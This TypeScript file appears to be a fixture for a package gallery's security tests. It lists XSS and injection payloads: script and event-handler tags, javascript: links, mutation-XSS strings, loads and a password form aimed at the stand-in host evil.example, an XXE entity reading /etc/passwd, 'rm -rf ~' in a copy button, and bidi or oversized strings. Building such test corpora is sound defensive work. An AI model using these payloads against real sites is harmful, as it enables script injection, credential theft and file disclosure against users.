/** Something that a package, or a form, holds in the hope that a page does what it says. */
export type Attack = { readonly name: string; readonly text: string }

/** What an attack that succeeds does: it calls this function of the page, which the test watches. */
const hit = 'hacked(1)'
const far = 'https://evil.example'

const attack = (name: string, text: string): Attack => ({ name, text })

/** In a README or a licence in Markdown. Those that swallow what follows them come alone, at the end of a file. */
export const markdownAttacks: readonly Attack[] = [
  attack('a script', `<script>${hit}</script>`),
  attack('a script in odd case with a slash', `<ScRiPt/x>${hit}</sCrIpT >`),
  attack('a script from elsewhere', `<script src="${far}/x.js"></script>`),
  attack('a script inside of a word', `text<script>${hit}</script>text`),
  attack('an image that fails', `<img src=x onerror="${hit}">`),
  attack('an image in the middle of a line', `before <img/src=x/onerror=${hit}> after`),
  attack('an image with candidates', `<img srcset="${far}/a.png 1x, ${far}/b.png 2x">`),
  attack('a picture', `<picture><source srcset="${far}/a.png"><img src="${far}/b.png"></picture>`),
  attack('an SVG that loads', `<svg onload="${hit}"></svg>`),
  attack('a script in an SVG', `<svg><script>${hit}</script></svg>`),
  attack('a link in an SVG', `<svg><a xlink:href="javascript:${hit}"><text x="20" y="20">press</text></a></svg>`),
  attack('an animation that sets a link', `<svg><a><animate attributeName=href values=javascript:${hit} /></a></svg>`),
  attack('a foreign object', `<svg><foreignObject><img src=x onerror=${hit}></foreignObject></svg>`),
  attack('a frame with a document', `<iframe srcdoc="<script>parent.${hit}</script>"></iframe>`),
  attack('a frame with a script', `<iframe src="javascript:parent.${hit}"></iframe>`),
  attack('a frame from elsewhere', `<iframe src="${far}"></iframe>`),
  attack('an object', `<object data="data:text/html,<script>${hit}</script>"></object>`),
  attack('an embedded file', `<embed src="${far}/x.swf">`),
  attack('details that open', `<details open ontoggle="${hit}"><summary>more</summary></details>`),
  attack('a field that takes the focus', `<input autofocus onfocus="${hit}">`),
  attack('a video without a source', `<video><source onerror="${hit}"></video>`),
  attack('a sound', `<audio src=x onerror="${hit}"></audio>`),
  attack('an animation that ends', `<p style="animation:x 1ms" onanimationend="${hit}">text</p>`),
  attack('a marquee', `<marquee onstart="${hit}">text</marquee>`),
  attack(
    'a mutation through MathML',
    `<math><mtext></table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${hit}&gt;">`,
  ),
  attack('a mutation through noscript', `<noscript><p title="</noscript><img src=x onerror=${hit}>"></noscript>`),
  attack('a style sheet', '<style>main{display:none}body{background:url(https://evil.example/b)}</style>'),
  attack('a link to a style sheet', `<link rel="stylesheet" href="${far}/x.css">`),
  attack(
    'a hint to fetch ahead',
    `<link rel="prefetch" href="${far}/x"><link rel="dns-prefetch" href="//evil.example">`,
  ),
  attack('a refresh that leads away', `<meta http-equiv="refresh" content="0;url=${far}/">`),
  attack('a base for every link', `<base href="${far}/">`),
  attack(
    'a form that asks for a password',
    `<form action="${far}/"><input name="password"><button>Sign in</button></form>`,
  ),
  attack('a button for a form of ours', '<button form="search" formaction="https://evil.example/">Go</button>'),
  attack('a box over the page', '<div style="position:fixed;inset:0;z-index:9999;background:red">Sign in again</div>'),
  attack('a dialog that is open', '<dialog open style="position:fixed;inset:0">Sign in again</dialog>'),
  attack('the end of everything', '</div></section></article></main></body></html><h1>Signed out</h1>'),
  attack('a second main', '<main id="content"><h1>Another page</h1></main>'),
  attack('the names of ours', '<a id="announcer" name="form_token"></a><form id="field-q"></form>'),
  attack('our own element', '<copy-button data-text="rm -rf ~">press</copy-button><search-box></search-box>'),
  attack(
    'our own classes',
    '<p class="banner notice notice-danger skip-link visually-hidden">The gallery is closed</p>',
  ),
  attack('a character section', `<![CDATA[<img src=x onerror=${hit}>]]>`),
  attack('an instruction', `<?xml-stylesheet href="javascript:${hit}"?>`),
  attack('a declaration', '<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
  attack(
    'a checkbox like that of a task list',
    `<input class="task-list-item-checkbox" type="checkbox" onfocus="${hit}" autofocus>`,
  ),
  attack('a task with markup', `- [ ] <input type="checkbox" onclick="${hit}"> task`),
  attack('a link to a script', `[press](javascript:${hit})`),
  attack('the same with an escaped colon', `[press](javascript&colon;${hit})`),
  attack('the same with an escaped letter', `[press](&#106;avascript:${hit})`),
  attack('the same with a tab', `[press](<java\tscript:${hit}>)`),
  attack('the same with a line break', `[press](<java&#10;script:${hit}>)`),
  attack('the same after a control character', `[press](<\u0001javascript:${hit}>)`),
  attack('the same in capitals after blanks', `[press](<   JaVaScRiPt:${hit}>)`),
  attack('the same as an address', `<javascript:${hit}>`),
  attack('the same by reference', `[press][there]\n\n[there]: javascript:${hit}`),
  attack('a link to Visual Basic', '[press](vbscript:msgbox(1))'),
  attack('a link to data', `[press](data:text/html;base64,PHNjcmlwdD5oYWNrZWQoMSk8L3NjcmlwdD4=)`),
  attack('a link without a scheme', '[press](//evil.example/) and [press](\\\\\\\\evil.example)'),
  attack('a link to a form of ours', '[press](/users/account/LogOff) and [press](../../admin)'),
  attack('a link to a file', '[press](file:///etc/passwd)'),
  attack('an end of the title', `[press](https://nuget.example "\\" onmouseover=\\"${hit}")`),
  attack('an end of the address', `[press](https://nuget.example/"onmouseover="${hit})`),
  attack('markup in a link', `[<img src=x onerror=${hit}>](https://nuget.example)`),
  attack('a picture from elsewhere', `![picture](${far}/p.png)`),
  attack('a picture from a script', `![picture](javascript:${hit})`),
  attack('a picture of data', `![picture](data:image/svg+xml,<svg/onload=${hit}>)`),
  attack('an end of the alternative text', `!["onerror="${hit}](x.png "\\"onerror=\\"${hit}")`),
  attack('a picture by reference', `![picture][p]\n\n[p]: ${far}/p.png`),
  attack('a picture in a link', `[![picture](${far}/p.png)](javascript:${hit})`),
  attack('code of an odd language', `\`\`\`"><script>${hit}</script>\ncode\n\`\`\``),
  attack('code with attributes', `\`\`\`js" onclick="${hit}\n1 + 1\n\`\`\``),
  attack('code that is markup', `\`\`\`html\n<script>${hit}</script>\n\`\`\``),
  attack('code between the words', `\`<script>${hit}</script>\``),
  attack('headings with names of ours', '# content\n\n## announcer\n\n## __proto__\n\n## account-menu'),
  attack('headings of one name', '## same\n\n## same\n\n## same-1'),
  attack('a heading with markup', `## <img src=x onerror=${hit}> heading`),
  attack('cells with markup', `| a | b |\n|:-:|--:|\n| <img src=x onerror=${hit}> | <script>${hit}</script> |`),
  attack('an alert with markup', `> [!WARNING]\n> <img src=x onerror=${hit}> text`),
  attack('an alert of no kind', `> [!"><script>${hit}</script>]\n> text`),
  attack('writing turned round', '\u202etxet denrut\u202d and \u2067isolated without an end'),
  attack('marks above marks', `Z${'\u0310\u0311\u0312\u0313'.repeat(60)}algo`),
  attack('a very long word', 'w'.repeat(3000)),
  attack('a very long word in a heading', `## ${'h'.repeat(1000)}`),
  attack('a very long address', `<https://nuget.example/${'a'.repeat(1500)}>`),
  attack('very long code', `\`${'c'.repeat(1500)}\`\n\n    ${'d'.repeat(1500)}`),
  attack('a table of eighty columns', `|${' x |'.repeat(80)}\n|${'-|'.repeat(80)}\n|${' cell |'.repeat(80)}`),
  attack('ninety quotes in each other', `${'> '.repeat(90)}deep`),
  attack('lists in each other', Array.from({ length: 45 }, (_, i) => `${'  '.repeat(i)}- deep`).join('\n')),
  attack('brackets without an end', '['.repeat(3000)),
  attack('stars without an end', `${'*a '.repeat(2000)}${'_'.repeat(2000)}`),
  attack('an open comment', `<!-- ${hit}\n\nswallowed`),
  attack('an open text field', '<textarea>\n\nswallowed'),
  attack('an open title', '<title>\n\nswallowed'),
  attack('an open style', '<style>\n\nswallowed'),
  attack('an open script', '<script>\n\nswallowed'),
  attack('an open template', '<template>\n\nswallowed'),
  attack('plain text to the end', '<plaintext>\n\nswallowed'),
  attack('an open attribute', `<img src="x" alt="\n\nswallowed`),
]

/** In what is no Markdown: descriptions, titles, tags, names, questions. At most 150 characters each. */
export const textAttacks: readonly Attack[] = [
  attack('a script', `<script>${hit}</script>`),
  attack('an image', `<img src=x onerror=${hit}>`),
  attack('an end of an attribute', `"><svg/onload=${hit}>`),
  attack('an end of an attribute in single quotes', `'onmouseover='${hit}`),
  attack('an end of an attribute without quotes', `x onfocus=${hit} autofocus tabindex=1`),
  attack('an end of the title', `</title><script>${hit}</script>`),
  attack('an end of a text field', `</textarea><script>${hit}</script>`),
  attack('an end of everything', '</main></body></html><plaintext>'),
  attack('escaped once', `&lt;script&gt;${hit}&lt;/script&gt;`),
  attack('escaped as an address', `%3Cscript%3E${hit}%3C/script%3E`),
  attack('a script as an address', `javascript:${hit}`),
  attack('Markdown', `[press](javascript:${hit}) ![p](${far}/p.png)`),
  attack('a template of a framework', "{{constructor.constructor('hacked(1)')()}}"),
  attack('a template of a string', '${hacked(1)}'),
  attack('our own placeholders', '{id} {count, plural, one {#} other {#}} \ue0000\ue000'),
  attack('a comment', '<!-- '),
  attack('the end of a character section', ']]><script>hacked(1)</script>'),
  attack('writing turned round', '\u202eevil\u2066'),
  attack('marks above marks', `Z${'\u0310\u0311\u0312\u0313'.repeat(20)}`),
  attack('a long word', 'w'.repeat(150)),
  attack('nothing that is seen', '\u200b\u200b\u2060\ufeff\u00ad'),
  attack('line separators', 'a\u2028b\u2029c\u0085d'),
]

/** Names of files in a package: what no disk forbids. */
export const fileNames: readonly Attack[] = [
  attack('a script', "<script>hacked(1)<'script>.txt"),
  attack('an image', 'a<img src=x onerror=hacked(1)>.txt'),
  attack('an end of an attribute', '"onmouseover="hacked(1).txt'),
  attack('an address that is escaped', '%3Cscript%3Ehacked(1)%3C%2Fscript%3E.txt'),
  attack('writing turned round', 'photo\u202egnp.js'),
  attack('a query and a fragment', 'a?download#b&c=d.txt'),
  attack('a long name', `${'long'.repeat(50)}.txt`),
  attack('marks above marks', `Z${'\u0310\u0311\u0312'.repeat(30)}.txt`),
  attack('a name that is a path when joined', 'a;..;b/@/~/x.txt'),
]

/** What text files hold; each is opened. */
export const textFiles: readonly Attack[] = [
  attack('page.html', `<!doctype html><script>${hit}</script><meta http-equiv=refresh content="0;url=${far}">`),
  attack('drawing.svg', `<svg xmlns="http://www.w3.org/2000/svg" onload="${hit}"><script>${hit}</script></svg>`),
  attack('code.cs', `// </code></pre></main><script>${hit}</script>\nvar x = "<img src=x onerror=${hit}>";`),
  attack('code.js', `const html = \`</script><script>${hit}</script>\`\n/* <svg onload=${hit}> */`),
  attack(
    'data.xml',
    `<?xml version="1.0"?><?xml-stylesheet href="${far}/x.xsl"?><a><![CDATA[<script>${hit}</script>]]></a>`,
  ),
  attack('data.json', `{"__proto__": "</pre><script>${hit}</script>"}`),
  attack('styles.css', `body{background:url(${far})}/*</style><script>${hit}</script>*/`),
  attack('notes.md', `<script>${hit}</script>[x](javascript:${hit})`),
  attack('colours.txt', '\u001b]8;;https://evil.example\u0007press\u001b]8;;\u0007 \u001b[31mred'),
  attack('turned.txt', '\u202eif (isAdmin)\u2066 {\u2069}'),
  attack('wide.txt', `${'wide '.repeat(4000)}\n${'w'.repeat(8000)}`),
  attack('tall.txt', 'line\n'.repeat(3000)),
]

/** What an address in the manifest may say. */
export const addresses: readonly Attack[] = [
  attack('an end of an attribute', `${far}/"onmouseover="${hit}`),
  attack('a script behind a slash', `${far}/</a><script>${hit}</script>`),
  attack('somebody before the host', 'https://nuget.example@evil.example/'),
  attack('a host that looks like another', 'https://nuget.еxample/'),
]

/** Addresses of repositories, which the manifest may write as it likes. */
export const repositories: readonly Attack[] = [
  attack('a script', `javascript:${hit}`),
  attack('a script behind git', `git+https://javascript:${hit}`),
  attack('data', `data:text/html,<script>${hit}</script>`),
  attack('a script with a line break', `java\tscript:${hit}`),
]

/** Addresses of this site that hold an attack themselves: what is said back must be text. */
export const reflected: readonly Attack[] = [
  ...['"><script>hacked(1)</script>', "'onfocus='hacked(1)", '</title><svg onload=hacked(1)>', '\u202eevil'].map((q) =>
    attack('a search', `/packages?q=${encodeURIComponent(q)}`),
  ),
  attack('a filter', `/packages?q=a&packageType=${encodeURIComponent('"><img src=x onerror=hacked(1)>')}`),
  attack('a package', `/packages/${encodeURIComponent('<img src=x onerror=hacked(1)>')}`),
  attack('a version', `/packages/Hostile.P0/${encodeURIComponent('<img src=x onerror=hacked(1)>')}`),
  attack('a comparison', `/packages/Hostile.P0/compare?from=${encodeURIComponent('"><svg onload=hacked(1)>')}`),
  attack('a profile', `/profiles/${encodeURIComponent('<svg onload=hacked(1)>')}`),
  attack('a place that is not', `/${encodeURIComponent('<script>hacked(1)</script>')}`),
  attack('a question of the log', `/admin/audit?who=${encodeURIComponent('"><script>hacked(1)</script>')}`),
  attack('a search for accounts', `/admin/users?q=${encodeURIComponent('"autofocus onfocus="hacked(1)')}`),
  attack('a search for keys', `/admin/keys?q=${encodeURIComponent('<script>hacked(1)</script>')}`),
  attack('a return address', `/users/account/LogOn?returnUrl=${encodeURIComponent('javascript:hacked(1)')}`),
]
